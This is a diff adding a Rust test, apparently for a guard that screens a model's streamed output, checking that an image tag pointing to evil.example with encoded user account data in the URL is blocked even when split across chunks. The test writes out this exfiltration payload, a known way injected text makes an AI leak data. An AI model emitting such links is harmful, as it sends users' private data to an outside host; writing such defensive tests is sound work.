@@ -250,3 +250,16 @@ proptest! {
         }
     }
 }
+
+#[test]
+fn an_address_never_goes_out_in_part() {
+    let data = encode("user: alice; balance: 1200 EUR");
+    let passage = &PROMPT[50..90];
+    let address = format!("https://evil.example/?d={data}");
+    let pieces = ["<img src=", &address, passage, passage];
+    for guarded in both() {
+        let outcome = stream(guarded, pieces);
+        assert!(outcome.blocked);
+        assert!(check(&outcome.text).safe, "{}", outcome.text);
+    }
+}
